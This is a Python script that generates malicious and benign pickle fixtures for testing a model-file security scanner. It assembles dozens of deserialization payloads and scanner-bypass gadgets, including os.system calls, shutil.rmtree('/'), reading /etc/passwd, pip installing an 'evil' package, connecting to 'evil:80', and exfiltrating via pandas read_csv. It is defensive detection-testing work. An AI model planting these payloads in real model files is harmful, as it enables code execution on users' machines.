#!/usr/bin/env python3
"""Generates the pickle analyser's fixture suite: tests/fixtures/pickle/{malicious,benign}/ and manifest.json.

Standard library only for the core suite. Nothing generated here is ever loaded: malicious pickles are assembled
from opcodes, or written with `pickle.dumps` of harmless classes whose `__reduce__` *names* a dangerous callable
(dumping never calls it). If numpy, scikit-learn and joblib are importable, real benign files from them are written
too (they are committed, so the tests do not need those libraries).

Usage: PYTHONHASHSEED=0 python3 tests/gen/gen_pickles.py   (from the repository root; the seed keeps set order,
so scikit-learn vocabularies, byte-identical between runs; TfidfVectorizer still records an id() that differs)
Also writes tests/fixtures/pickle/dis/*.txt: `pickletools.dis` output of some files, for `mlsc disasm` tests.
"""

import collections
import datetime
import decimal
import fractions
import io
import json
import os
import pathlib
import pickle
import pickletools
import struct
import sys
import types
import uuid

ROOT = pathlib.Path(__file__).resolve().parents[2] / "tests" / "fixtures" / "pickle"
MANIFEST = []


def write(kind, name, data, verdict, expect, why, ref=""):
    path = ROOT / kind / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    MANIFEST.append(
        {"file": f"{kind}/{name}", "verdict": verdict, "expect": expect, "why": why, "ref": ref}
    )


def mal(name, data, expect, why, ref="", verdict="malicious"):
    write("malicious", name, data, verdict, expect, why, ref)


def ben(name, data, why):
    write("benign", name, data, "clean", [], why)


# ----- a tiny assembler ---------------------------------------------------------------------------------------
PROTO = lambda n: b"\x80" + bytes([n])
STOP, MARK, POP, POP_MARK, DUP = b".", b"(", b"0", b"1", b"2"
REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, OBJ = b"R", b"b", b"\x81", b"\x92", b"o"
TUPLE, TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE = b"t", b"\x85", b"\x86", b"\x87", b")"
EMPTY_DICT, EMPTY_LIST, SETITEM, SETITEMS, APPEND = b"}", b"]", b"s", b"u", b"a"
STACK_GLOBAL, MEMOIZE, NONE, TRUE = b"\x93", b"\x94", b"N", b"\x88"


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def bu8(s):  # BINUNICODE8
    b = s.encode()
    return b"\x8d" + struct.pack("<Q", len(b)) + b


def sbs(s):  # SHORT_BINSTRING
    b = s.encode()
    return b"U" + bytes([len(b)]) + b


def bs(s):  # BINSTRING
    b = s.encode()
    return b"T" + struct.pack("<i", len(b)) + b


def sbb(b):  # SHORT_BINBYTES
    return b"C" + bytes([len(b)]) + b


def bb(b):  # BINBYTES
    return b"B" + struct.pack("<I", len(b)) + b


def glob(m, n):  # GLOBAL
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def sg(m, n):  # STACK_GLOBAL from two short strings
    return sbu(m) + sbu(n) + STACK_GLOBAL


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def ext1(c):
    return b"\x82" + bytes([c])


def ext2(c):
    return b"\x83" + struct.pack("<H", c)


def ext4(c):
    return b"\x84" + struct.pack("<I", c)


def call1(callee, arg):
    """callee(arg) with protocol 2+ opcodes; callee and arg are opcode bytes that push one value each."""
    return callee + arg + TUPLE1 + REDUCE


def p4(body):
    return PROTO(4) + body + STOP


def p2(body):
    return PROTO(2) + body + STOP


# ----- harmless classes whose reductions name dangerous callables ------------------------------------------------
class Reduce:
    """`pickle.dumps(Reduce(f, args))` writes `f(*args)`; dumping never calls f."""

    def __init__(self, f, args):
        self.f, self.args = f, args

    def __reduce__(self):
        return (self.f, self.args)


def dumps_all(name, f, args, expect, why, ref=""):
    for p in range(6):
        mal(f"{name}_p{p}.pkl", pickle.dumps(Reduce(f, args), protocol=p), expect, why, ref)


def malicious():
    import builtins
    import subprocess

    dumps_all("reduce_os_system", os.system, ("id",), ["posix.system"], "os.system via __reduce__, every protocol")
    dumps_all("reduce_builtins_eval", builtins.eval, ("1+1",), ["builtins.eval"],
              "builtins.eval (written __builtin__.eval at protocol < 3, mapped back by _compat_pickle)")
    dumps_all("reduce_subprocess_popen", subprocess.Popen, (["id"],), ["subprocess.Popen"], "subprocess.Popen")
    mal("global_text_os_system.pkl", b"cos\nsystem\n(S'id'\ntR.", ["posix.system"],
        "protocol 0 GLOBAL os system: os re-exports posix.system")
    mal("compat_builtin_exec.pkl", b"c__builtin__\nexec\n(S'import os'\ntR.", ["builtins.exec"],
        "Python 2 module name mapped by _compat_pickle")
    mal("compat_commands_getoutput.pkl", b"ccommands\ngetoutput\n(S'id'\ntR.", ["subprocess.getoutput"],
        "Python 2 `commands` is subprocess after _compat_pickle")
    mal("cve_2025_1716_pip_main.pkl", p4(call1(sg("pip", "main"), sbu("install") + sbu("evil") + TUPLE2 + b"")),
        ["pip.main"], "pip.main installs an attacker package (picklescan CVE-2025-1716)", "CVE-2025-1716")
    # Built to match: pip.main(['install', 'evil']) with a list argument
    mal("cve_2025_1716_pip_internal.pkl",
        p4(sg("pip._internal", "main") + EMPTY_LIST + MARK + sbu("install") + sbu("evil-pkg") + b"e" + TUPLE1 + REDUCE),
        ["pip._internal.main"], "pip._internal.main (CVE-2025-1716 variant)", "CVE-2025-1716")
    mal("cve_2025_1889_payload.bin", pickle.dumps(Reduce(os.system, ("id",)), protocol=2), ["posix.system"],
        "a raw pickle with a non-standard extension (picklescan CVE-2025-1889): content decides", "CVE-2025-1889")
    mal("cve_2025_10155_payload.pt", pickle.dumps(Reduce(os.system, ("id",)), protocol=4), ["posix.system"],
        "raw pickle named .pt, not a zip (CVE-2025-10155 extension confusion)", "CVE-2025-10155")
    mal("cve_2025_10157_posixsubprocess.pkl",
        p4(call1(sg("_posixsubprocess", "fork_exec"), sbu("id"))), ["_posixsubprocess.fork_exec"],
        "internal module of subprocess, missed by module-exact deny lists (CVE-2025-10157)", "CVE-2025-10157")
    mal("cve_2025_10157_asyncio_unix_events.pkl",
        p4(sg("asyncio.unix_events", "_UnixSubprocessTransport") + EMPTY_TUPLE + REDUCE),
        ["asyncio.unix_events._UnixSubprocessTransport"],
        "submodule of a denied package (asyncio.unix_events), CVE-2025-10157", "CVE-2025-10157")
    mal("pkgutil_resolve_name.pkl",
        p4(call1(call1(sg("pkgutil", "resolve_name"), sbu("os:system")), sbu("id"))),
        ["pkgutil.resolve_name", "posix.system"], "the 2026 universal bypass: pkgutil.resolve_name('os:system')('id')")
    mal("pydoc_locate.pkl", p4(call1(call1(sg("pydoc", "locate"), sbu("os.system")), sbu("id"))),
        ["pydoc.locate", "posix.system"], "pydoc.locate resolves any dotted name")
    mal("getattr_import_module.pkl",
        p4(sg("builtins", "getattr") + call1(sg("importlib", "import_module"), sbu("os")) + sbu("system") + TUPLE2
           + REDUCE + sbu("id") + TUPLE1 + REDUCE),
        ["builtins.getattr", "importlib.import_module", "posix.system"],
        "getattr chain: builtins.getattr(importlib.import_module('os'), 'system')('id')")
    mal("getattr_dunder_import.pkl",
        p2(glob("__builtin__", "getattr") + glob("__builtin__", "__import__") + sbu("os") + TUPLE1 + REDUCE
           + sbu("popen") + TUPLE2 + REDUCE + sbu("id") + TUPLE1 + REDUCE),
        ["builtins.getattr", "builtins.__import__", "os.popen"], "getattr(__import__('os'), 'popen')('id')")
    mal("vars_dict_get.pkl",
        p4(sg("builtins", "dict.get") + call1(sg("builtins", "vars"), call1(sg("importlib", "import_module"), sbu("os")))
           + sbu("system") + TUPLE2 + REDUCE + sbu("id") + TUPLE1 + REDUCE),
        ["builtins.vars", "posix.system"], "builtins.vars/dict.get chain (picklescan default-mode bypass)")
    mal("sys_modules_get.pkl",
        p4(sg("builtins", "getattr") + sg("builtins", "dict.get") + sg("sys", "modules") + sbu("os") + TUPLE2 + REDUCE
           + sbu("system") + TUPLE2 + REDUCE + sbu("id") + TUPLE1 + REDUCE),
        ["sys.modules", "posix.system"], "dict.get(sys.modules, 'os') then getattr")
    mal("attrgetter.pkl",
        p4(call1(call1(sg("operator", "attrgetter"), sbu("system")), call1(sg("importlib", "import_module"), sbu("os")))
           + sbu("id") + TUPLE1 + REDUCE),
        ["operator.attrgetter", "posix.system"], "operator.attrgetter('system')(os)('id')")
    mal("methodcaller.pkl",
        p4(sg("operator", "methodcaller") + sbu("system") + sbu("id") + TUPLE2 + REDUCE
           + call1(sg("importlib", "import_module"), sbu("os")) + TUPLE1 + REDUCE),
        ["operator.methodcaller"], "operator.methodcaller('system', 'id') gadget (Hide and Seek)", "arXiv:2508.19774")
    # memo and DUP tricks: the names come from the memo, decoys sit right before STACK_GLOBAL
    mal("memo_names.pkl",
        p4(sbu("os") + binput(0) + sbu("system") + binput(1) + POP + POP + sbu("collections") + sbu("OrderedDict")
           + POP + POP + binget(0) + binget(1) + STACK_GLOBAL + sbu("id") + TUPLE1 + REDUCE),
        ["posix.system"], "STACK_GLOBAL names from BINGET, decoy strings before it (picklescan looks backwards)")
    mal("memo_decoy_strings.pkl",
        p4(sbu("os") + MEMOIZE + sbu("system") + MEMOIZE + POP + POP + binget(0) + binget(1) + sbu("builtins")
           + sbu("print") + POP + POP + STACK_GLOBAL + sbu("id") + TUPLE1 + REDUCE),
        ["posix.system"], "the two strings right before STACK_GLOBAL are popped decoys")
    mal("dup_names.pkl",
        p4(sbu("os") + DUP + POP + sbu("junk") + POP + sbu("system") + STACK_GLOBAL + DUP + POP + sbu("id") + TUPLE1
           + REDUCE),
        ["posix.system"], "DUP/POP shuffle around the names")
    mal("memo_global_reuse.pkl",
        p4(sg("os", "system") + MEMOIZE + POP + sbu("x") + POP + binget(0) + sbu("id") + TUPLE1 + REDUCE),
        ["posix.system"], "the callable itself comes back from the memo later")
    mal("pop_mark_hide.pkl",
        p4(MARK + sg("os", "system") + sbu("id") + TUPLE1 + REDUCE + POP_MARK + NONE),
        ["posix.system"], "the call's result is discarded with POP_MARK")
    # EXT opcodes
    mal("ext_registered.pkl",
        p2(glob("copy_reg", "add_extension") + sbu("os") + sbu("system") + b"K\x41" + TUPLE3 + REDUCE + POP
           + ext1(0x41) + sbu("id") + TUPLE1 + REDUCE),
        ["copyreg.add_extension", "EXT1"], "copyreg.add_extension then EXT1 resolves os.system")
    mal("ext2_bare.pkl", p2(ext2(0x1234) + sbu("id") + TUPLE1 + REDUCE), ["EXT2"],
        "EXT2 with whatever the registry holds at load time")
    mal("ext4_bare.pkl", p2(ext4(0x7fffffff) + EMPTY_TUPLE + REDUCE), ["EXT4"], "EXT4")
    mal("ext1_bare.pkl", p2(ext1(1) + NONE + TUPLE1 + REDUCE), ["EXT1"], "EXT1")
    # BUILD injection and __setstate__
    mal("build_on_class.pkl",
        p4(sg("collections", "OrderedDict") + EMPTY_DICT + sbu("__reduce__") + sg("os", "system") + SETITEM + BUILD),
        ["collections.OrderedDict", "posix.system"], "BUILD writes attributes of an imported class")
    mal("build_slotstate_module.pkl",
        p4(sg("torch.nn.modules.module", "Module") + NONE + EMPTY_DICT + sbu("__call__") + sg("builtins", "exec")
           + SETITEM + TUPLE2 + BUILD),
        ["torch.nn.modules.module.Module", "builtins.exec"], "BUILD slot state setattr on an imported class")
    mal("partial_build.pkl",
        p4(call1(sg("functools", "partial"), sg("builtins", "print")) + MARK + sg("os", "system") + sbu("id") + TUPLE1
           + EMPTY_DICT + NONE + TUPLE + BUILD + EMPTY_TUPLE + REDUCE),
        ["functools.partial", "posix.system"], "functools.partial rebound to os.system through BUILD state")
    mal("setstate_unknown.pkl",
        p4(sg("evilpkg.gadgets", "Runner") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + sbu("cmd") + sbu("id") + SETITEM + BUILD),
        ["evilpkg.gadgets.Runner"], "an unknown class instantiated and given state (__setstate__ may run anything)",
        verdict="suspicious")
    mal("setitem_os_environ.pkl",
        p4(sg("os", "environ") + sbu("LD_PRELOAD") + sbu("/tmp/x.so") + SETITEM),
        ["os.environ"], "SETITEM into os.environ")
    # INST, OBJ, NEWOBJ, NEWOBJ_EX
    mal("inst_os_system.pkl", b"(S'id'\nios\nsystem\n.", ["posix.system"], "INST opcode invokes its class/callable")
    mal("obj_os_system.pkl", b"(cos\nsystem\nS'id'\no.", ["posix.system"], "OBJ opcode")
    mal("newobj_popen.pkl", p2(glob("subprocess", "Popen") + EMPTY_LIST + sbu("id") + APPEND + TUPLE1 + NEWOBJ),
        ["subprocess.Popen"], "NEWOBJ")
    mal("newobj_ex_popen.pkl",
        p4(sg("subprocess", "Popen") + sbu("id") + TUPLE1 + EMPTY_DICT + sbu("shell") + TRUE + SETITEM + NEWOBJ_EX),
        ["subprocess.Popen"], "NEWOBJ_EX with keyword arguments")
    # names from every string opcode
    mal("names_binunicode.pkl", p4(bu("os") + bu("system") + STACK_GLOBAL + bu("id") + TUPLE1 + REDUCE),
        ["posix.system"], "STACK_GLOBAL names from BINUNICODE")
    mal("names_binunicode8.pkl", p4(bu8("os") + bu8("system") + STACK_GLOBAL + bu8("id") + TUPLE1 + REDUCE),
        ["posix.system"], "STACK_GLOBAL names from BINUNICODE8")
    mal("names_unicode_escapes.pkl",
        p4(b"V\\u006fs\n" + b"V\\u0073ystem\n" + STACK_GLOBAL + sbu("id") + TUPLE1 + REDUCE),
        ["posix.system"], "STACK_GLOBAL names from protocol 0 UNICODE with raw-unicode-escape escapes")
    mal("names_string_escapes.pkl",
        p4(b"S'\\x6fs'\n" + b"S'sys\\164em'\n" + STACK_GLOBAL + sbu("id") + TUPLE1 + REDUCE),
        ["posix.system"], "STACK_GLOBAL names from STRING with escapes (\\x6f, octal)")
    mal("names_binstring.pkl", p4(sbs("os") + bs("system") + STACK_GLOBAL + sbs("id") + TUPLE1 + REDUCE),
        ["posix.system"], "STACK_GLOBAL names from SHORT_BINSTRING/BINSTRING")
    mal("names_long_module.pkl",
        p4(bu("subprocess" + "") + bu("check_output") + STACK_GLOBAL + EMPTY_LIST + sbu("id") + APPEND + TUPLE1 + REDUCE),
        ["subprocess.check_output"], "names longer than the inline buffer")
    mal("computed_name.pkl",
        p4(call1(sg("builtins", "str"), sbu("os")) + sbu("system") + STACK_GLOBAL + sbu("id") + TUPLE1 + REDUCE),
        ["not a literal"], "the module name is the result of a call: only known at load time")
    mal("dotted_traversal.pkl", p4(sbu("torch") + sbu("serialization.os.system") + STACK_GLOBAL + sbu("id") + TUPLE1 + REDUCE),
        ["torch.serialization.os.system", "posix.system"], "find_class walks dotted names: torch.serialization.os.system")
    mal("dunder_subclasses.pkl",
        p4(sg("collections", "OrderedDict.__class__.__subclasses__") + EMPTY_TUPLE + REDUCE),
        ["__subclasses__"], "dotted name through dunder attributes")
    mal("dunder_globals.pkl",
        p4(sg("collections", "OrderedDict.__init__.__globals__") + POP + NONE),
        ["__globals__"], "an imported dunder path, never invoked, is still critical")
    # nested pickles
    inner = pickle.dumps(Reduce(os.system, ("id",)), protocol=2)
    mal("nested_pickle_loads.pkl", p4(call1(sg("pickle", "loads"), bb(inner))), ["pickle.loads", "posix.system"],
        "pickle.loads of bytes that are themselves a pickle")
    mal("nested__pickle_loads.pkl", p4(call1(sg("_pickle", "loads"), sbb(inner[:255]) if len(inner) < 256 else bb(inner))),
        ["_pickle.loads", "posix.system"], "_pickle.loads")
    # loaders and other gadgets (fickling advisories, Hide and Seek families)
    simple = [
        ("torch_load.pkl", "torch", "load", "/tmp/evil.pt", "torch.load", "torch.load of another file"),
        ("torch_hub_load.pkl", "torch.hub", "load", "attacker/repo", "torch.hub.load", "torch.hub runs repo code"),
        ("torch_jit_load.pkl", "torch.jit", "load", "/tmp/x.pt", "torch.jit.load", "TorchScript"),
        ("torch_collect_env.pkl", "torch.utils.collect_env", "run", "id", "torch.utils.collect_env.run",
         "collect_env.run runs a shell command (Hide and Seek)"),
        ("numpy_load.pkl", "numpy", "load", "/tmp/x.npy", "numpy.load", "numpy.load with pickled object arrays"),
        ("numpy_runstring.pkl", "numpy.testing._private.utils", "runstring", "import os", "runstring",
         "numpy.testing runstring executes source"),
        ("runpy_run_path.pkl", "runpy", "run_path", "/tmp/x.py", "runpy.run_path", "runpy"),
        ("pty_spawn.pkl", "pty", "spawn", "/bin/sh", "pty.spawn", "pty.spawn (fickling advisory)"),
        ("code_interact.pkl", "code", "interact", "x", "code.interact", "code module"),
        ("cprofile_run.pkl", "cProfile", "run", "import os", "cProfile.run", "cProfile.run executes source"),
        ("profile_run.pkl", "profile", "run", "import os", "profile.run", "profile.run executes source"),
        ("timeit_timeit.pkl", "timeit", "timeit", "import os", "timeit.timeit", "timeit runs source"),
        ("pydoc_pipepager.pkl", "pydoc", "pipepager", "x", "pydoc.pipepager", "pydoc pager runs a command"),
        ("webbrowser_open.pkl", "webbrowser", "open", "http://evil", "webbrowser.open", "opens a URL"),
        ("socket_connect.pkl", "socket", "create_connection", "evil:80", "socket.create_connection", "network"),
        ("shutil_rmtree.pkl", "shutil", "rmtree", "/", "shutil.rmtree", "deletes files"),
        ("builtins_open.pkl", "builtins", "open", "/etc/passwd", "builtins.open", "opens files"),
        ("marshal_loads.pkl", "marshal", "loads", "x", "marshal.loads", "code objects"),
        ("importlib_import.pkl", "importlib", "import_module", "os", "importlib.import_module", "imports a module"),
        ("osx_support.pkl", "_osx_support", "_read_output", "id", "_osx_support._read_output",
         "runs a command (Hide and Seek gadget)"),
        ("uuid_get_command.pkl", "uuid", "_get_command_stdout", "id", "uuid._get_command_stdout",
         "runs a command (Hide and Seek gadget)"),
        ("doctest_debug_script.pkl", "doctest", "debug_script", "import os", "doctest.debug_script",
         "runs source under pdb"),
        ("ctypes_cdll.pkl", "ctypes", "CDLL", "libc.so.6", "ctypes.CDLL", "native code"),
        ("multiprocessing_process.pkl", "multiprocessing.util", "spawnv_passfds", "id",
         "multiprocessing.util.spawnv_passfds", "spawns a process"),
        ("logging_config_listen.pkl", "logging.config", "listen", "9999", "logging.config.listen",
         "runs configuration code from the network"),
        ("idlelib_run.pkl", "idlelib.pyshell", "main", "x", "idlelib.pyshell.main", "idlelib"),
        ("pdb_run.pkl", "pdb", "run", "import os", "pdb.run", "pdb.run executes source"),
        ("exec_builtins_p4.pkl", "builtins", "exec", "import os; os.system('id')", "builtins.exec", "exec"),
        ("compile_builtins.pkl", "builtins", "compile", "x", "builtins.compile", "compile"),
        ("breakpoint.pkl", "builtins", "breakpoint", "x", "builtins.breakpoint", "debugger"),
        ("types_function_type.pkl", "types", "FunctionType", "x", "types.FunctionType", "builds functions"),
        ("torch_storage_load_bytes.pkl", "torch.storage", "_load_from_bytes", "x", "torch.storage._load_from_bytes",
         "unpickles bytes with torch.load"),
        ("joblib_load.pkl", "joblib", "load", "/tmp/x", "joblib.load", "loads another pickle"),
        ("dill_loads.pkl", "dill", "loads", "x", "dill.loads", "dill"),
        ("asyncio_subprocess.pkl", "asyncio.subprocess", "create_subprocess_shell", "id",
         "asyncio.subprocess.create_subprocess_shell", "subprocess"),
        ("platform_popen.pkl", "platform", "popen", "id", "platform.popen", "runs a command"),
        ("nt_system.pkl", "nt", "system", "id", "nt.system", "Windows os"),
        ("posix_system_direct.pkl", "posix", "system", "id", "posix.system", "posix directly"),
        ("os_popen.pkl", "os", "popen", "id", "os.popen", "os.popen is defined by os itself"),
        ("subprocess_run.pkl", "subprocess", "run", "id", "subprocess.run", "subprocess.run"),
        ("tensorflow_io.pkl", "tensorflow.io", "write_file", "x", "tensorflow.io.write_file", "TF file ops"),
    ]
    for fname, mod, name, arg, expect, why in simple:
        mal(fname, p4(call1(sg(mod, name), sbu(arg))), [expect], why)
    mal("types_codetype_marshal.pkl",
        p4(sg("types", "FunctionType") + call1(sg("marshal", "loads"), sbb(b"\xe3" + b"\x00" * 20)) + EMPTY_DICT + TUPLE2
           + REDUCE + EMPTY_TUPLE + REDUCE),
        ["types.FunctionType", "marshal.loads"], "FunctionType(marshal.loads(code), {})()")
    mal("reconstructor_calls_cls.pkl",
        p2(glob("copy_reg", "_reconstructor") + glob("os", "system") + glob("__builtin__", "object") + NONE + TUPLE3 + REDUCE),
        ["posix.system"], "copyreg._reconstructor instantiates whatever class it is given")
    mal("rebuild_from_type_passes.pkl",
        p2(glob("torch._tensor", "_rebuild_from_type_v2") + MARK + glob("os", "system") + glob("torch", "Tensor")
           + sbu("id") + TUPLE1 + EMPTY_DICT + TUPLE + REDUCE),
        ["posix.system"], "an allowlisted torch helper that calls its first argument")
    mal("imported_not_invoked.pkl", p4(EMPTY_DICT + sbu("f") + sg("os", "system") + SETITEM),
        ["posix.system"], "os.system is imported and stored, never invoked: still reported (high)")
    # whole streams
    benign = pickle.dumps({"a": 1}, protocol=4)
    evil = pickle.dumps(Reduce(os.system, ("id",)), protocol=4)
    mal("stacked_second_pickle.pkl", benign + evil, ["posix.system"], "payload in the second of two stacked pickles")
    mal("junk_then_pickle.pkl", benign + b"JUNK\xff\xfe" + evil, ["posix.system"],
        "junk after STOP, then a pickle: analysis resyncs at the next PROTO")
    mal("truncated_after_reduce.pkl", evil[:-1], ["posix.system"],
        "no STOP: the call ran before the unpickler hit the end")
    mal("truncated_mid_opcode.pkl", p4(call1(sg("os", "system"), sbu("id")))[:-1] + b"\x8c\x10ab",
        ["posix.system"], "truncated inside a string argument after the call")
    mal("unknown_callable.pkl", p4(sg("mypkg.models", "Net") + EMPTY_TUPLE + NEWOBJ),
        ["mypkg.models.Net"], "an invoked callable on no allowlist: suspicious, never clean", verdict="suspicious")
    mal("unknown_reduce_p0.pkl", b"cmylib.train\nmake\n(tR.", ["mylib.train.make"],
        "protocol 0 REDUCE of an unknown callable", verdict="suspicious")
    mal("frame_payload.pkl", pickle.dumps([1, Reduce(os.system, ("id",)), "x" * 70000], protocol=4), ["posix.system"],
        "payload inside a multi-frame protocol 4 pickle")
    mal("p5_bytearray_then_payload.pkl",
        pickle.dumps([bytearray(b"abc" * 100), Reduce(os.system, ("id",))], protocol=5), ["posix.system"],
        "protocol 5 BYTEARRAY8 before the payload")
    mal("big_string_then_payload.pkl", p4(bu("x" * 1_100_000) + POP + call1(sg("os", "system"), sbu("id"))),
        ["posix.system"], "a 1.1 MB string before the payload (skipped, not kept)")
    mal("proto_midstream.pkl", PROTO(4) + PROTO(2) + glob("__builtin__", "eval") + sbu("1") + TUPLE1 + REDUCE + STOP,
        ["builtins.eval"], "PROTO may appear anywhere: a second PROTO mid-stream (sniffers that only accept it first miss this)")
    mal("proto_switch_compat.pkl",
        PROTO(4) + sbu("__builtin__") + sbu("exec") + PROTO(2) + STACK_GLOBAL + sbu("1") + TUPLE1 + REDUCE + STOP,
        ["builtins.exec"], "PROTO 2 just before STACK_GLOBAL turns on _compat_pickle mapping of __builtin__")
    mal("text_first_then_proto.pkl", b"(" + PROTO(2) + b"cos\nsystem\nS'id'\no.", ["posix.system"],
        "protocol 0 opening, PROTO after it")
    # Exception-Oriented Programming (Hide and Seek): the payload runs, then the stream makes the unpickler raise;
    # a scanner that gives up on a parse error must not drop what came before it.
    mal("eop_payload_then_bad_opcode.pkl", p4(call1(sg("os", "system"), sbu("id")) + b"\xff\xfe"),
        ["posix.system"], "os.system, then an unknown opcode: the loader raises after the call ran", "arXiv:2508.19774")
    mal("eop_payload_then_underflow.pkl", p4(call1(sg("os", "system"), sbu("id")) + POP + POP + REDUCE),
        ["posix.system"], "os.system, then a stack underflow", "arXiv:2508.19774")
    mal("eop_payload_then_bad_memo.pkl", p4(call1(sg("os", "system"), sbu("id")) + binget(200)),
        ["posix.system"], "os.system, then a GET of a memo entry never stored", "arXiv:2508.19774")
    joblib_like()
    ecosystem_gadgets()


def ecosystem_gadgets():
    """Issue 18: one case per gadget class that lives inside a module the ecosystem profiles now allow (numpy,
    pandas, scikit-learn, spaCy, torch, cloudpickle's helpers), or that reaches a loader; each must stay caught."""
    ref = "issue 18"
    evil = p4(call1(sg("os", "system"), sbu("echo pwned")))
    # numpy.size(obj, key) is obj.shape[key]: BUILD puts numpy.__builtins__ in numpy.size's state, then
    # numpy.size(numpy.size, 'eval') returns builtins.eval (the public numpy allowlist bypass).
    mal("eco_numpy_builtins_size.pkl",
        p4(sg("numpy", "size") + MEMOIZE + sg("numpy", "__builtins__") + MEMOIZE + binget(0) + EMPTY_DICT + EMPTY_DICT
           + sbu("shape") + binget(1) + SETITEM + TUPLE2 + BUILD + binget(0) + binget(0) + sbu("eval") + TUPLE2
           + REDUCE + sbu('__import__("os").system("echo pwned")') + TUPLE1 + REDUCE),
        ["numpy.__builtins__", "numpy.size"], "numpy.size over state poisoned with numpy.__builtins__", ref)
    # getattr is judged by what it reaches: an allowlisted function's dunder attribute is not allowlisted.
    mal("eco_getattr_allowed_function_globals.pkl",
        p4(sg("builtins", "getattr") + sg("sklearn.utils.validation", "check_array") + sbu("__globals__") + TUPLE2
           + REDUCE),
        ["__globals__"], "getattr(check_array, '__globals__') from an allowlisted function", ref)
    mal("eco_getattr_allowed_class_query.pkl",
        p4(sg("builtins", "getattr") + sg("pandas", "DataFrame") + sbu("query") + TUPLE2 + REDUCE + EMPTY_DICT
           + sbu("__import__('os').system('echo pwned')") + TUPLE2 + REDUCE),
        ["pandas.DataFrame.query"], "getattr(pandas.DataFrame, 'query') reaches pandas' expression evaluator", ref)
    # BUILD state poisoning of an allowlisted class and of partial(allowlisted function).
    mal("eco_build_poisons_allowed_class.pkl",
        p4(sg("sklearn.utils._bunch", "Bunch") + EMPTY_DICT + sbu("__reduce__") + sg("os", "system") + SETITEM + BUILD),
        ["sklearn.utils._bunch.Bunch", "posix.system"], "BUILD writes attributes of an allowlisted class", ref)
    mal("eco_partial_check_array_rebound.pkl",
        p4(call1(sg("functools", "partial"), sg("sklearn.utils.validation", "check_array")) + MARK + sg("os", "system")
           + sbu("echo pwned") + TUPLE1 + EMPTY_DICT + NONE + TUPLE + BUILD + EMPTY_TUPLE + REDUCE),
        ["functools.partial", "posix.system"], "HistGradientBoosting's partial(check_array) rebound to os.system", ref)
    # copyreg routes to Popen: as the base whose __init__ _reconstructor runs, and through __newobj__.
    mal("eco_copyreg_reconstructor_popen_base.pkl",
        p4(sg("copyreg", "_reconstructor") + sg("pandas", "DataFrame") + sg("subprocess", "Popen") + EMPTY_LIST
           + sbu("echo") + APPEND + sbu("pwned") + APPEND + TUPLE3 + REDUCE),
        ["subprocess.Popen"], "copyreg._reconstructor(DataFrame, Popen, args) runs Popen.__init__(obj, args)", ref)
    mal("eco_copyreg_newobj_popen.pkl",
        p4(sg("copyreg", "__newobj__") + sg("subprocess", "Popen") + sbu("echo pwned") + TUPLE2 + REDUCE),
        ["subprocess.Popen"], "copyreg.__newobj__(Popen, …)", ref)
    # cloudpickle's _builtin_type is getattr(types, name): CodeType builds code, MethodType binds os.system.
    mal("eco_cloudpickle_codetype.pkl",
        p4(call1(sg("cloudpickle.cloudpickle", "_builtin_type"), sbu("CodeType")) + MARK + b"K\x00" * 6
           + sbb(b"d\x00S\x00") + TUPLE + REDUCE),
        ["types.CodeType"], "cloudpickle._builtin_type('CodeType') builds a code object", ref)
    mal("eco_cloudpickle_methodtype_system.pkl",
        p4(call1(sg("cloudpickle.cloudpickle", "_builtin_type"), sbu("MethodType")) + sg("os", "system")
           + sbu("echo pwned") + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE),
        ["posix.system"], "MethodType(os.system, 'echo pwned')() through cloudpickle._builtin_type", ref)
    # pandas read_csv(url), mlflow and bottleneck helpers.
    mal("eco_pandas_read_csv_url.pkl",
        p4(call1(sg("pandas.io.parsers.readers", "read_csv"), sbu("http://127.0.0.1:9/?pwned"))),
        ["pandas.io.parsers.readers.read_csv"], "pandas read_csv(url) exfiltrates (modelscan #338)", ref)
    mal("eco_pandas_read_pickle.pkl",
        p4(call1(sg("pandas", "read_pickle"), sbu("/tmp/evil.pkl"))),
        ["pandas.read_pickle"], "pandas.read_pickle loads another pickle", ref)
    mal("eco_mlflow_run_entry_point.pkl",
        p4(sg("mlflow.projects.backend.local", "_run_entry_point") + MARK + sbu("echo pwned") + sbu(".") + sbu("")
           + sbu("") + TUPLE + REDUCE),
        ["mlflow.projects.backend.local._run_entry_point"], "mlflow _run_entry_point runs a command (modelscan #338)",
        ref)
    mal("eco_bottleneck_autotimeit.pkl",
        p4(call1(sg("bottleneck.benchmark.autotimeit", "autotimeit"), sbu("__import__('os').system('echo pwned')"))),
        ["bottleneck.benchmark.autotimeit.autotimeit"], "bottleneck's autotimeit runs timeit on a source string", ref)
    # Nested pickles handed as bytes to loaders: torch config modules, datapipe decoders, an unknown loader, and
    # spaCy's allowlisted unpickle_doc (whose bytes are analysed, so an allowlisted loader is no way in).
    mal("eco_nested_torch_config_load.pkl",
        p4(sg("torch.utils._config_module", "ConfigModule.load_config") + sg("torch._inductor", "config")
           + sbb(evil) + TUPLE2 + REDUCE),
        ["posix.system", "unpickles"], "ConfigModule.load_config(module, pickle bytes)", ref)
    mal("eco_nested_datapipe_decoder.pkl",
        p4(sg("torch.utils.data.datapipes.utils.decoder", "basichandlers") + sbu("pickle") + sbb(evil) + TUPLE2
           + REDUCE),
        ["posix.system", "unpickles"], "datapipe basichandlers('pickle', bytes) unpickles them", ref)
    mal("eco_nested_unknown_loader.pkl",
        p4(call1(sg("somepkg.io", "load_blob"), sbb(evil))),
        ["posix.system", "somepkg.io.load_blob"], "pickle bytes handed to an unknown callable are analysed", ref)
    mal("eco_nested_spacy_unpickle_doc.pkl",
        p4(sg("spacy.tokens.doc", "unpickle_doc") + NONE + sbb(evil) + sbb(b"") + TUPLE3 + REDUCE),
        ["posix.system", "spacy.tokens.doc.unpickle_doc"], "spaCy's allowlisted unpickle_doc given a malicious pickle",
        ref)
    mal("eco_nested_dill_loads.pkl",
        p4(call1(sg("dill._dill", "loads"), sbb(evil))),
        ["posix.system"], "dill.loads of pickle bytes", ref)
    # Legacy torch.save: persistent_load returns the class of ('module', cls, file, source).
